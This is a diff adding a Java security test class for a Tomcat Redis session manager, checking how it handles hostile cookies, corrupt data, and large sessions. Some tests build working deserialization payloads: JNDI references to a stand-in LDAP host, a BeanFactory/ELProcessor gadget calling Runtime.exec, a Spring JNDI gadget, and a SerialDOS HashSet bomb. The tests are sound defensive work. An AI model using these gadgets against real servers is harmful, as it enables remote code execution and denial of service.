@@ -1,0 +1,433 @@
+package io.tomcatredis.session.it;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatCode;
+
+import io.tomcatredis.session.codec.AttributeCodec;
+import io.tomcatredis.session.codec.ClassFilter;
+import io.tomcatredis.session.store.SessionKeys;
+import io.tomcatredis.testsupport.ClusterRedis;
+import io.tomcatredis.testsupport.RedisExtension;
+import io.tomcatredis.testsupport.RedisOptions;
+import io.tomcatredis.testsupport.StandaloneRedis;
+import jakarta.servlet.http.HttpServlet;
+import jakarta.servlet.http.HttpServletRequest;
+import jakarta.servlet.http.HttpServletResponse;
+import jakarta.servlet.http.HttpSession;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.ObjectInputStream;
+import java.io.ObjectOutputStream;
+import java.io.Serializable;
+import java.io.UncheckedIOException;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.HashMap;
+import java.util.HashSet;
+import java.util.List;
+import java.util.Locale;
+import java.util.Set;
+import java.util.concurrent.atomic.AtomicInteger;
+import javax.naming.Reference;
+import javax.naming.StringRefAddr;
+import org.apache.catalina.Context;
+import org.apache.catalina.startup.Tomcat;
+import org.apache.naming.ResourceRef;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Tag;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestInstance;
+import org.junit.jupiter.api.extension.RegisterExtension;
+import org.springframework.jndi.support.SimpleJndiBeanFactory;
+
+/**
+ * Third attack pass on issue 11 (hostile input and Redis trouble), on two embedded Tomcats and one
+ * real Redis: inputs of the kinds the issue names (several session cookies, corrupt stored data,
+ * gadget classes, big sessions, Redis down, amplification) that the fuzzers and the earlier
+ * regression tests do not reach. Each test is named for the promise it pins.
+ */
+@Tag("tomcat")
+@TestInstance(TestInstance.Lifecycle.PER_CLASS)
+class HostileInputAttack3IT {
+
+    private static final int TIMEOUT_MILLIS = 1000;
+    /** A request that gets no complete answer within this is a hang (the legitimate ones take milliseconds). */
+    private static final int HANG_MILLIS = 15_000;
+
+    @RegisterExtension
+    static final RedisExtension<StandaloneRedis> REDIS = RedisExtension.standalone();
+
+    private RedisUnderTest redis;
+    private TomcatNode node1;
+    private TomcatNode node2;
+    private HttpSessionClient owner;
+    private String base;
+
+    @BeforeAll
+    void startNodes() {
+        redis = RedisUnderTest.standalone(REDIS.get());
+        node1 = TomcatNode.start("atk1", this::configure, HostileInputAttack3IT::addAttackServlet);
+        node2 = TomcatNode.start("atk2", this::configure, HostileInputAttack3IT::addAttackServlet);
+    }
+
+    @AfterAll
+    void stopNodes() {
+        node1.close();
+        node2.close();
+        redis.close();
+    }
+
+    @BeforeEach
+    void ownerSession() {
+        redis.flushAll();
+        owner = new HttpSessionClient();
+        owner.ok(node1.url("set?name=a&value=mine"));
+        base = SessionKeys.baseId(owner.sessionId());
+    }
+
+    private void configure(io.tomcatredis.session.RedisSessionManager manager) {
+        redis.configure(manager);
+        manager.setTimeoutMillis(Integer.toString(TIMEOUT_MILLIS));
+    }
+
+    // ------------------------------------------------------------------ session cookies and ids
+
+    /**
+     * FINDING. Tomcat checks the first JSESSIONID cookie (isRequestedSessionIdValid, a findSession)
+     * while it parses the request, before any valve: with Redis down the manager's pre-scope lookup
+     * throws SessionStoreUnavailableException into the connector, which answers 500 (Tomcat's
+     * Http11Processor) even for a page that never uses the session.
+     */
+    @Test
+    void twoSessionCookiesWhileRedisIsDownNeverAnswer500() {
+        try (StandaloneRedis own = StandaloneRedis.start();
+             TomcatNode node = TomcatNode.start("atk-down", m -> {
+                 m.setRedisUri(own.uri());
+                 m.setTimeoutMillis(Integer.toString(TIMEOUT_MILLIS));
+             })) {
+            HttpSessionClient browser = new HttpSessionClient();
+            browser.ok(node.url("set?name=a&value=mine"));
+            List<String> cookies = List.of("JSESSIONID=" + browser.sessionId() + "; JSESSIONID=" + unknownId(1));
+            own.node().kill();
+
+            RawHttp.Reply page = RawHttp.get(node.port(), "/app/s/none", cookies, HANG_MILLIS);
+            RawHttp.Reply read = RawHttp.get(node.port(), "/app/s/get?name=a", cookies, HANG_MILLIS);
+
+            assertThat(page.status()).as("a page that needs no session, with two session cookies: %s", page.head())
+                    .isEqualTo(200);
+            assertThat(read.status()).as("a page that needs the session, with two session cookies: %s", read.head())
+                    .isEqualTo(503);
+        }
+    }
+
+    /**
+     * FINDING. Tomcat replaces the requested id while the current one is not valid; the manager's
+     * pre-scope budget (one Redis lookup per request) answers "no session" for the second cookie
+     * without asking Redis, so with cookies [unknown, live, unknown] Tomcat settles on the last one
+     * and the user's live session is ignored (StandardManager keeps the live one).
+     */
+    @Test
+    void liveSessionBetweenTwoUnknownSessionCookiesIsUsedAsByStandardManager() {
+        List<String> cookies = List.of("JSESSIONID=" + unknownId(1) + "; JSESSIONID=" + owner.sessionId()
+                + "; JSESSIONID=" + unknownId(2));
+
+        RawHttp.Reply reply = RawHttp.get(node2.port(), "/app/s/get?name=a", cookies, HANG_MILLIS);
+
+        assertThat(reply.status()).isEqualTo(200);
+        assertThat(reply.body()).as("the attribute of the live session among the cookies").isEqualTo("mine");
+    }
+
+    /** PIN. The route-suffix flood of issue 11 through the URL: one key and one index entry. */
+    @Test
+    void routeSuffixesInJsessionidPathParametersNeverAddSessionsOrIndexEntries() {
+        for (int i = 1; i <= 20; i++) {
+            TomcatNode node = i % 2 == 0 ? node1 : node2;
+            RawHttp.Reply reply = RawHttp.get(node.port(), "/app/s/set;jsessionid=" + base + ".r" + i
+                    + "?name=b&value=" + i, List.of(), HANG_MILLIS);
+            assertThat(reply.status()).isEqualTo(200);
+            assertThat(reply.issuedSessionIds()).as("no new session for a route suffix").isEmpty();
+        }
+
+        assertThat(node1.manager().getActiveSessions()).isEqualTo(1);
+        assertThat(redis.client().zrange(redis.indexKey(base), 0, -1)).containsExactly(base);
+        assertThat(redis.keys()).containsExactlyInAnyOrder(redis.sessionKey(base), redis.indexKey(base));
+        assertThat(owner.ok(node2.url("get?name=b"))).isEqualTo("20");
+    }
+
+    // ------------------------------------------------------------------ amplification
+
+    /**
+     * FINDING. With Redis Cluster and maxActiveSessions set (the usual guard against session
+     * floods), ManagerBase.createSession asks getActiveSessions(), which counts the expiry index
+     * with one ZCARD per slot: an anonymous request that creates a session costs 16,384 Redis
+     * commands in 16 pipelined round trips (standalone: one ZCARD).
+     */
+    @Test
+    void anonymousSessionCreationOnClusterWithMaxActiveSessionsCostsAConstantNumberOfCommands() {
+        try (ClusterRedis cluster = ClusterRedis.start(3, 0, RedisOptions.DEFAULTS);
+             RedisUnderTest onCluster = RedisUnderTest.cluster(cluster);
+             TomcatNode node = TomcatNode.start("atk-cluster", m -> {
+                 onCluster.configure(m);
+                 m.setTimeoutMillis("2000");
+                 m.setMaxActiveSessions(100_000);
+             })) {
+            new HttpSessionClient().ok(node.url("create"));
+            onCluster.commands().reset();
+
+            HttpSessionClient anonymous = new HttpSessionClient();
+            anonymous.ok(node.url("create"));
+
+            long commands = onCluster.commands().calls().values().stream().mapToLong(Long::longValue).sum();
+            assertThat(commands).as("Redis commands of one anonymous request creating a session: %s",
+                    onCluster.commands().calls()).isLessThanOrEqualTo(20);
+        }
+    }
+
+    // ------------------------------------------------------------------ what Redis hands back
+
+    /** PIN. The deny-list works for the exact JNDI reference class. */
+    @Test
+    void jndiReferenceStoredAsAnAttributeIsDropped() {
+        Reference reference = new Reference("java.lang.Runnable", "com.example.EvilFactory", "ldap://attacker.invalid/x");
+        storeAttribute("ref", javaSerialized(reference));
+
+        assertThat(owner.ok(node2.url("get?name=ref"))).isEqualTo("null");
+        assertThat(owner.ok(node2.url("get?name=a"))).isEqualTo("mine");
+    }
+
+    /**
+     * PIN. A subclass of a denied class written with Java serialization: Tomcat's own
+     * {@code org.apache.naming.ResourceRef} with its addresses (the classic BeanFactory
+     * JNDI-injection payload) is dropped, as the JDK's filter sees every class of the hierarchy.
+     */
+    @Test
+    void jndiReferenceSubclassStoredAsAnAttributeIsDroppedLikeReferenceItself() {
+        ResourceRef reference = new ResourceRef("javax.el.ELProcessor", null, "", "", true,
+                "org.apache.naming.factory.BeanFactory", null);
+        reference.add(new StringRefAddr("forceString", "x=eval"));
+        reference.add(new StringRefAddr("x", "Runtime.getRuntime().exec('id')"));
+        storeAttribute("ref", javaSerialized(reference));
+
+        assertThat(owner.ok(node2.url("get?name=ref"))).as("a JNDI reference (ResourceRef) from Redis").isEqualTo("null");
+        assertThat(owner.ok(node2.url("get?name=a"))).isEqualTo("mine");
+    }
+
+    /**
+     * FINDING. marshalsec's Spring JNDI gadget ({@code SimpleJndiBeanFactory}, used by its
+     * SpringAbstractBeanFactoryPointcutAdvisor and SpringPartiallyComparableAdvisorHolder chains for
+     * Kryo and Hessian) is not on the deny-list: Kryo instantiates it from a stored attribute.
+     */
+    @Test
+    void springJndiBeanFactoryGadgetStoredAsAnAttributeIsDropped() throws Exception {
+        AttributeCodec kryo = AttributeCodec.create("kryo", getClass().getClassLoader(), ClassFilter.DENY_LIST_ONLY);
+        SimpleJndiBeanFactory gadget = new SimpleJndiBeanFactory();
+        gadget.addShareableResource("ldap://attacker.invalid/x");
+        storeAttribute("gadget", kryo.encode(new ArrayList<>(List.of(gadget))));
+
+        assertThat(owner.ok(node2.url("get?name=gadget"))).as("a Spring JNDI bean factory from Redis").isEqualTo("null");
+        assertThat(owner.ok(node2.url("get?name=a"))).isEqualTo("mine");
+    }
+
+    /**
+     * FINDING. StandardManager applies {@code sessionAttributeValueClassNameFilter} to every class
+     * while it deserializes (CustomObjectInputStream.resolveClass), so a class the operator excluded
+     * is never instantiated. Here the pattern is checked only on the top-level value's class after
+     * the whole value was deserialized: a nested excluded class is instantiated and its readObject
+     * runs before the value is dropped.
+     */
+    @Test
+    void classesExcludedBySessionAttributeValueClassNameFilterAreNeverInstantiatedFromRedis() {
+        try (TomcatNode strict = TomcatNode.start("atk-strict", m -> {
+            configure(m);
+            m.setSessionAttributeValueClassNameFilter("java\\.lang\\.String");
+        })) {
+            HttpSessionClient browser = new HttpSessionClient();
+            browser.ok(strict.url("set?name=a&value=kept"));
+            HashMap<String, Object> value = new HashMap<>();
+            value.put("k", new Canary());
+            byte[] bytes = javaSerialized(value);
+            Canary.READS.set(0);
+            redis.client().hset(redis.sessionKey(browser.sessionId()).getBytes(StandardCharsets.UTF_8),
+                    "attr:c".getBytes(StandardCharsets.UTF_8), bytes);
+
+            assertThat(browser.ok(strict.url("get?name=c"))).isEqualTo("null");
+            assertThat(browser.ok(strict.url("get?name=a"))).isEqualTo("kept");
+            assertThat(Canary.READS.get()).as("readObject calls of a class the filter excludes").isZero();
+        }
+    }
+
+    /** Counts its deserializations. */
+    static final class Canary implements Serializable {
+        private static final long serialVersionUID = 1L;
+        static final AtomicInteger READS = new AtomicInteger();
+
+        private void readObject(ObjectInputStream in) throws IOException, ClassNotFoundException {
+            in.defaultReadObject();
+            READS.incrementAndGet();
+        }
+    }
+
+    /**
+     * FINDING. A 1.5 kB Java-serialized value of nested HashSets (the public "SerialDOS" payload)
+     * costs 2^depth hashCode calls to deserialize: no class is denied, no depth or work limit
+     * applies, and the request that reads the attribute never answers within any bound (here about
+     * a minute of CPU at depth 29; at depth 40 it would run for days).
+     */
+    @Test
+    void nestedHashSetBombStoredAsAnAttributeNeverHangsTheRequest() {
+        storeAttribute("bomb", javaSerialized(hashSetBomb(29)));
+
+        RawHttp.Reply reply = RawHttp.get(node1.port(), "/app/s/get?name=bomb",
+                List.of("JSESSIONID=" + owner.sessionId()), HANG_MILLIS);
+
+        assertThat(reply.status()).isIn(200, 503);
+        assertThat(owner.ok(node2.url("get?name=a"))).isEqualTo("mine");
+    }
+
+    /**
+     * FINDING. A corrupt {@code meta:version} (not an integer) makes the save script's HINCRBY fail
+     * after its HSETs: every request that writes the session answers 503 (while its attributes were
+     * in fact written), and the session never heals until its key's TTL ends.
+     */
+    @Test
+    void corruptStoredVersionHealsInsteadOfFailingEverySave() {
+        redis.client().hset(redis.sessionKey(base), "meta:version", "not-a-number");
+
+        owner.get(node2.url("set?name=b&value=1"));
+        HttpSessionClient.Reply second = owner.get(node1.url("set?name=b&value=2"));
+
+        assertThat(second.status()).as("a save after the corrupt version was seen: %s", second.body()).isEqualTo(200);
+        assertThat(owner.ok(node2.url("get?name=b"))).isEqualTo("2");
+    }
+
+    /**
+     * FINDING. One due session whose claim key ({@code <hash>:claimed}) holds another type makes
+     * claim.lua fail with WRONGTYPE before it removes the index entry; ExpirySweeper lets the
+     * exception end the whole run, and the entry is first again at every run: no session of the
+     * webapp expires any more (issue 11: "stall the expiry sweep").
+     */
+    @Test
+    void claimKeyOfTheWrongTypeDoesNotStallTheExpirySweep() {
+        HttpSessionClient other = new HttpSessionClient();
+        other.ok(node1.url("set?name=a&value=theirs"));
+        String otherBase = SessionKeys.baseId(other.sessionId());
+        redis.client().set(redis.sessionKey(base) + ":claimed", "not a claim");
+        for (String id : List.of(base, otherBase)) {
+            redis.client().hset(redis.sessionKey(id), "meta:lastAccessedTime", "1000");
+        }
+        redis.client().zadd(redis.indexKey(base), 1, base);
+        redis.client().zadd(redis.indexKey(base), 2, otherBase);
+
+        assertThatCode(() -> node1.manager().processExpires()).doesNotThrowAnyException();
+
+        assertThat(redis.client().exists(redis.sessionKey(otherBase))).as("the other due session was expired").isFalse();
+        assertThat(redis.client().zrange(redis.indexKey(base), 0, -1)).doesNotContain(otherBase);
+    }
+
+    // ------------------------------------------------------------------ big sessions
+
+    /** PIN. Five times the 4,000 attributes of issue 11: saved atomically, read on the other node. */
+    @Test
+    void sessionOfTwentyThousandAttributesIsSavedAndReadOnTheOtherNode() {
+        HttpSessionClient browser = new HttpSessionClient();
+
+        assertThat(browser.ok(node1.url("many?value=20000"))).isEqualTo("20000");
+
+        assertThat(browser.ok(node2.url("count"))).isEqualTo("20000");
+        assertThat(browser.ok(node2.url("get?name=attribute-19999"))).isEqualTo("value-19999");
+    }
+
+    /** PIN. A multi-megabyte attribute is saved and read back intact on the other node. */
+    @Test
+    void eightMegabyteAttributeIsSavedAndReadIntactOnTheOtherNode() {
+        HttpSessionClient browser = new HttpSessionClient();
+
+        String written = browser.ok(attackUrl(node1, "big?mb=8"));
+
+        assertThat(browser.ok(attackUrl(node2, "big-check"))).isEqualTo(written);
+    }
+
+    // ------------------------------------------------------------------ helpers
+
+    /** Servlet for inputs SessionServlet cannot express (a value too big for a URL). */
+    private static void addAttackServlet(Context context) {
+        Tomcat.addServlet(context, "attack3", new AttackServlet());
+        context.addServletMappingDecoded("/x/*", "attack3");
+    }
+
+    private static String attackUrl(TomcatNode node, String path) {
+        return "http://127.0.0.1:" + node.port() + "/app/x/" + path;
+    }
+
+    static final class AttackServlet extends HttpServlet {
+        private static final long serialVersionUID = 1L;
+
+        @Override
+        protected void service(HttpServletRequest request, HttpServletResponse response) throws IOException {
+            response.setContentType("text/plain;charset=UTF-8");
+            String op = request.getPathInfo() == null ? "" : request.getPathInfo().substring(1);
+            switch (op) {
+                case "big" -> {
+                    byte[] value = new byte[Integer.parseInt(request.getParameter("mb")) << 20];
+                    for (int i = 0; i < value.length; i++) {
+                        value[i] = (byte) (i * 31 + (i >>> 12));
+                    }
+                    request.getSession().setAttribute("big", value);
+                    response.getWriter().write(value.length + ":" + Arrays.hashCode(value));
+                }
+                case "big-check" -> {
+                    HttpSession session = request.getSession(false);
+                    byte[] value = session == null ? null : (byte[]) session.getAttribute("big");
+                    response.getWriter().write(value == null ? "none" : value.length + ":" + Arrays.hashCode(value));
+                }
+                default -> response.sendError(404);
+            }
+        }
+    }
+
+    /** A well-formed id, as long as the owner's, that no node issued. */
+    private String unknownId(int n) {
+        String hex = String.format(Locale.ROOT, "%0" + base.length() + "X", n);
+        return hex.substring(hex.length() - base.length()) + ".atk1";
+    }
+
+    private void storeAttribute(String name, byte[] bytes) {
+        redis.client().hset(redis.sessionKey(base).getBytes(StandardCharsets.UTF_8),
+                ("attr:" + name).getBytes(StandardCharsets.UTF_8), bytes);
+    }
+
+    private static byte[] javaSerialized(Object value) {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
+            out.writeObject(value);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return bytes.toByteArray();
+    }
+
+    /**
+     * Nested HashSets whose deserialization computes hash codes 2^depth times (Wouter Coekaerts'
+     * SerialDOS); writing them costs nothing, as ObjectOutputStream does not hash.
+     */
+    private static Set<Object> hashSetBomb(int depth) {
+        Set<Object> root = new HashSet<>();
+        Set<Object> s1 = root;
+        Set<Object> s2 = new HashSet<>();
+        for (int i = 0; i < depth; i++) {
+            Set<Object> t1 = new HashSet<>();
+            Set<Object> t2 = new HashSet<>();
+            t1.add("foo");
+            s1.add(t1);
+            s1.add(t2);
+            s2.add(t1);
+            s2.add(t2);
+            s1 = t1;
+            s2 = t2;
+        }
+        return root;
+    }
+}
